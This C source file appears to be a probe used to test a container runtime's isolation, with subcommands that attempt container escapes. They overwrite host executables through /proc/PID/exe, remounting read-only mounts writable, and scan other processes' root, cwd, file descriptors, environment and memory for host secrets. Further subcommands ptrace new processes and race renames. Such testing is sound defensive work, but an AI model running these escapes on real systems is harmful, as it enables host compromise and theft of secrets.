// What attackers do inside of a container, one word each. Results go to files or standard output, one line each.
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/mount.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static double now(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec + t.tv_nsec / 1e9;
}

// Says something once in a file, whole: written aside, renamed.
static void report(const char *file, const char *text)
{
	char aside[4096];
	snprintf(aside, sizeof aside, "%s.aside", file);
	int fd = open(aside, O_WRONLY | O_CREAT | O_TRUNC, 0666);
	write(fd, text, strlen(text));
	close(fd);
	rename(aside, file);
}

static int same(const struct stat *a, const struct stat *b)
{
	return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
}

// Tries to write a program that is held by an O_PATH descriptor, and is being executed still.
static int open_for_writing(int held)
{
	char path[64];
	snprintf(path, sizeof path, "/proc/self/fd/%d", held);
	for (double end = now() + 10; now() < end; usleep(200)) {
		int fd = open(path, O_WRONLY | O_CLOEXEC);
		if (fd >= 0 || errno != ETXTBSY)
			return fd;
	}
	return -1;
}

// overwrite RESULT: finds a process whose program is none of the container's, and writes it.
static void overwrite(const char *result)
{
	struct stat own, busybox;
	stat("/proc/self/exe", &own);
	stat("/bin/busybox", &busybox);
	for (;;) {
		DIR *proc = opendir("/proc");
		for (struct dirent *e; proc && (e = readdir(proc));) {
			char path[300], text[600];
			struct stat found;
			if (!isdigit(e->d_name[0]))
				continue;
			snprintf(path, sizeof path, "/proc/%s/exe", e->d_name);
			int held = open(path, O_PATH | O_CLOEXEC);
			if (held < 0)
				continue;
			if (fstat(held, &found) < 0 || same(&found, &own) || same(&found, &busybox)) {
				close(held);
				continue;
			}
			int fd = open_for_writing(held);
			int first = errno;
			if (fd < 0) {
				// With CAP_SYS_ADMIN: make its mount writable, or a copy of it.
				struct mount_attr attr = { .attr_clr = MOUNT_ATTR_RDONLY };
				syscall(SYS_mount_setattr, held, "", AT_EMPTY_PATH, &attr, sizeof attr);
				int tree = syscall(SYS_open_tree, held, "", AT_EMPTY_PATH | OPEN_TREE_CLONE | O_CLOEXEC);
				if (tree >= 0) {
					syscall(SYS_mount_setattr, tree, "", AT_EMPTY_PATH, &attr, sizeof attr);
					fd = open_for_writing(tree);
				}
				if (fd < 0)
					fd = open_for_writing(held);
			}
			if (fd >= 0)
				snprintf(text, sizeof text, "written: %zd bytes\n", write(fd, "#!/owned\n", 9));
			else
				snprintf(text, sizeof text, "refused: %s\n", strerror(first));
			report(result, text);
			pause();
		}
		if (proc)
			closedir(proc);
	}
}

// Reads through a path of another process: whether the secret is there.
static int leads_to(const char *base, const char *to, const char *secret)
{
	char path[4096], text[64] = "";
	snprintf(path, sizeof path, "%s%s", base, to);
	int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
	if (fd < 0)
		return 0;
	ssize_t n = read(fd, text, sizeof text - 1);
	close(fd);
	return n > 0 && strstr(text, secret) != NULL;
}

static void say(int out, const char *what, const char *detail)
{
	char line[512];
	write(out, line, snprintf(line, sizeof line, "%s %s\n", what, detail));
}

// The id that was given last in this PID namespace.
static int newest(void)
{
	char text[128] = "";
	int fd = open("/proc/loadavg", O_RDONLY | O_CLOEXEC);
	read(fd, text, sizeof text - 1);
	close(fd);
	char *last = strrchr(text, ' ');
	return last ? atoi(last + 1) : 0;
}

// watch FILE PATH SECRET VARIABLE [trace]: looks into every process that appears, for a way to PATH on the host, and for
// memory of the runtime's. Appends what is found, and how many processes were seen.
static void watch(char **argv, int trace)
{
	const char *file = argv[0], *path = argv[1], *secret = argv[2], *variable = argv[3];
	char up[4096];
	snprintf(up, sizeof up, "/../../../../../../../../../../../..%s", path);
	int out = open(file, O_WRONLY | O_CREAT | O_APPEND, 0666);
	struct stat own, busybox;
	stat("/proc/self/exe", &own);
	stat("/bin/busybox", &busybox);
	say(out, "watching", "");
	long seen = 0, refused = 0;
	int next = getpid() + 1;
	for (double last = now();;) {
		char at[600];
		struct stat st;
		int pid = newest();
		if (now() > last + 0.2) {
			last = now();
			char text[80];
			snprintf(text, sizeof text, "%ld refused %ld", seen, refused);
			say(out, "seen", text);
		}
		if (pid < next)
			continue;
		seen++;
		next = pid + 1;
		if (trace && ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
			snprintf(at, sizeof at, "/proc/%d/exe", pid);
			if (stat(at, &st) == 0 && !same(&st, &own) && !same(&st, &busybox))
				say(out, "traced", at);
			kill(pid, SIGSTOP);
			waitpid(pid, NULL, __WALL);
			ptrace(PTRACE_DETACH, pid, 0, SIGCONT);
			continue;
		}
		for (int round = 0; round < 200; round++) {
			snprintf(at, sizeof at, "/proc/%d/root", pid);
			if (leads_to(at, path, secret))
				say(out, "root", at);
			else if (errno == EACCES)
				refused++;
			snprintf(at, sizeof at, "/proc/%d/cwd", pid);
			if (leads_to(at, up, secret))
				say(out, "cwd", at);
			for (int fd = 3; fd < 24; fd++) {
				snprintf(at, sizeof at, "/proc/%d/fd/%d", pid, fd);
				if (leads_to(at, up, secret))
					say(out, "fd", at);
			}
			snprintf(at, sizeof at, "/proc/%d/environ", pid);
			char text[65536];
			int fd = open(at, O_RDONLY | O_CLOEXEC);
			ssize_t n = fd < 0 ? 0 : read(fd, text, sizeof text);
			if (n > 0 && memmem(text, n, variable, strlen(variable)))
				say(out, "environ", at);
			if (fd >= 0)
				close(fd);
			for (int i = 0; i < 2; i++) {
				snprintf(at, sizeof at, "/proc/%d/%s", pid, i ? "maps" : "mem");
				char exe[64];
				snprintf(exe, sizeof exe, "/proc/%d/exe", pid);
				fd = open(at, O_RDONLY | O_CLOEXEC);
				if (fd >= 0 && stat(exe, &st) == 0 && !same(&st, &own) && !same(&st, &busybox))
					say(out, "memory", at);
				if (fd >= 0)
					close(fd);
			}
			snprintf(at, sizeof at, "/proc/%d", pid);
			if (stat(at, &st) < 0)
				break;
			// The program runs.
			snprintf(at, sizeof at, "/proc/%d/exe", pid);
			if (stat(at, &st) == 0 && same(&st, &busybox))
				break;
		}
	}
}

// stop: stops every process that appears.
static void stop_all(void)
{
	for (int next = getpid() + 1;;)
		for (int last = newest(); next <= last; next++)
			kill(next, SIGSTOP);
}

// exchange A B: exchanges them until killed.
static void exchange(const char *a, const char *b)
{
	for (;;)
		renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
}

#define SESSION -3
// with-key NAME PAYLOAD COMMAND…: runs a command with a session keyring that has a key.
static int with_key(char **argv)
{
	syscall(SYS_keyctl, 1 /* KEYCTL_JOIN_SESSION_KEYRING */, "tare-escapes");
	long key = syscall(SYS_add_key, "user", argv[0], argv[1], strlen(argv[1]), SESSION);
	if (key < 0)
		return perror("add_key"), 9;
	// Whoever has the key's user may use it, not the possessor alone.
	syscall(SYS_keyctl, 5 /* KEYCTL_SETPERM */, key, 0x3f3f0000);
	execvp(argv[2], argv + 2);
	return perror(argv[2]), 9;
}

// read-key NAME
static int read_key(const char *name)
{
	char text[256] = "";
	long key = syscall(SYS_keyctl, 10 /* KEYCTL_SEARCH */, SESSION, "user", name, 0);
	if (key < 0)
		return printf("%s\n", strerror(errno)), 0;
	syscall(SYS_keyctl, 11 /* KEYCTL_READ */, key, text, sizeof text - 1);
	return printf("key: %s\n", text), 0;
}

// go SOCKET: tells a container that waits at its gate to start.
static int go(const char *path)
{
	struct sockaddr_un to = { .sun_family = AF_UNIX };
	char answer[64] = "";
	strncpy(to.sun_path, path, sizeof to.sun_path - 1);
	int fd = socket(AF_UNIX, SOCK_SEQPACKET, 0);
	if (connect(fd, (struct sockaddr *)&to, sizeof to) < 0)
		return printf("connect: %s\n", strerror(errno)), 0;
	if (send(fd, "g", 1, MSG_NOSIGNAL) < 0)
		return printf("send: %s\n", strerror(errno)), 0;
	long n = recv(fd, answer, sizeof answer, 0);
	return printf(n > 0 ? "answered %ld\n" : "no answer %ld\n", n), 0;
}

// In the first process: one who may trace stays behind, while the first shows nothing of it.
static void cover(const char *how)
{
	pid_t watcher = fork();
	if (watcher == 0)
		return;
	if (!strcmp(how, "dropped"))
		prctl(PR_CAPBSET_DROP, 19 /* CAP_SYS_PTRACE */);
	else
		unshare(CLONE_NEWUSER);
	for (;;)
		pause();
}

int main(int argc, char **argv)
{
	const char *word = argc > 1 ? argv[1] : "";
	if (!strcmp(word, "overwrite"))
		overwrite(argv[2]);
	if (!strncmp(word, "watch-", 6))
		cover(word + 6);
	if (!strncmp(word, "watch", 5))
		watch(argv + 2, argc > 6);
	if (!strcmp(word, "stop"))
		stop_all();
	if (!strcmp(word, "exchange"))
		exchange(argv[2], argv[3]);
	if (!strcmp(word, "with-key"))
		return with_key(argv + 2);
	if (!strcmp(word, "read-key"))
		return read_key(argv[2]);
	if (!strcmp(word, "go"))
		return go(argv[2]);
	return fprintf(stderr, "probe: no such word\n"), 2;
}
